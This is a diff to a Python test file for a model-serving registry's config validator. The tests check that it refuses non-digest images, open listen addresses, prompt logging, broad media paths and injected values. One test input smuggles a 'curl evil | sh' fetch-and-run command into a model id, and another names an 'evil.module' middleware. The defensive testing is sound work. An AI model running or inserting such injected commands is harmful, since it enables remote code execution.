@@ -59,7 +59,8 @@ def test_all_documented_fields_are_read() -> None:
                                         "to_zero_after_s": 4},
         "backend": {"kind": "openai", "base_url": "http://10.0.0.1:8000/", "served_model": "served",
                     "args": {"max_model_len": 4096}},
-        "deploy": {"instance_type": "g5.xlarge", "image": "x", "gpus": 1, "memory_mib": 15000}}]})
+        "deploy": {"instance_type": "g5.xlarge", "image": "r.example/x@sha256:" + "0" * 64, "gpus": 1,
+                   "memory_mib": 15000}}]})
     [m] = registry.models
     s = m.settings
     assert (s.window, s.window_max, s.job_timeout_s, s.max_attempts, s.max_queue_depth) == ("auto", 32, 60, 5, 7)
@@ -130,6 +131,31 @@ def test_only_a_model_marked_multimodal_takes_images() -> None:
     assert not registry.multimodal("text") and not registry.multimodal("unknown") and not registry.multimodal(3)
     with pytest.raises(SettingsError, match="multimodal: must be true or false"):
         registry_of({"models": [{"name": "m", "multimodal": "yes"}]})
+
+
+@pytest.mark.parametrize(("deploy_or_backend", "named"), [
+    ({"deploy": {"image": "123.dkr.ecr.us-east-1.amazonaws.com/worker:latest"}}, "deploy.image"),
+    ({"backend": {"args": {"host": "0.0.0.0"}}}, "backend.args.host"),
+    ({"backend": {"args": {"--host": "0.0.0.0"}}}, "backend.args.--host"),
+    ({"backend": {"args": {"enable-log-requests": True}}}, "backend.args.enable-log-requests"),
+    ({"backend": {"args": {"allowed_local_media_path": "/"}}}, "backend.args.allowed_local_media_path"),
+    ({"backend": {"args": {"middleware": "evil.module"}}}, "backend.args.middleware"),
+    ({"backend": {"args": {"model": "org/m'; curl evil | sh; '"}}}, "backend.args.model"),
+    ({"backend": {"served_model": "a b"}}, "backend.served_model"),
+])
+def test_supply_chain_and_engine_flags_a_registry_may_not_set(deploy_or_backend: dict[str, Any], named: str) -> None:
+    """Issue 47, L5: a model's image is pinned by digest; no registry argument reopens what the deployment closed
+    (the engine's listening address, its logging of prompts, media it may read or fetch, code it imports); what it
+    loads reaches a root shell script, so it is a plain id."""
+    message = refusal({"models": [{"name": "m", **deploy_or_backend}]})
+    assert f"model 'm' {named}" in message, message
+
+
+def test_a_digest_pinned_image_and_ordinary_engine_arguments_pass() -> None:
+    registry = registry_of({"models": [{"name": "m", "deploy": {"image": "r.example/w@sha256:" + "ab" * 32},
+                                        "backend": {"kind": "vllm", "args": {"model": "Qwen/Qwen2.5-7B-Instruct",
+                                                                             "max_model_len": 4096}}}]})
+    assert registry.models[0].deploy["image"].endswith("ab" * 32)
 
 
 def test_a_model_s_gpu_hour_price_defaults_to_its_instance_type_s_on_demand_price_per_gpu() -> None:
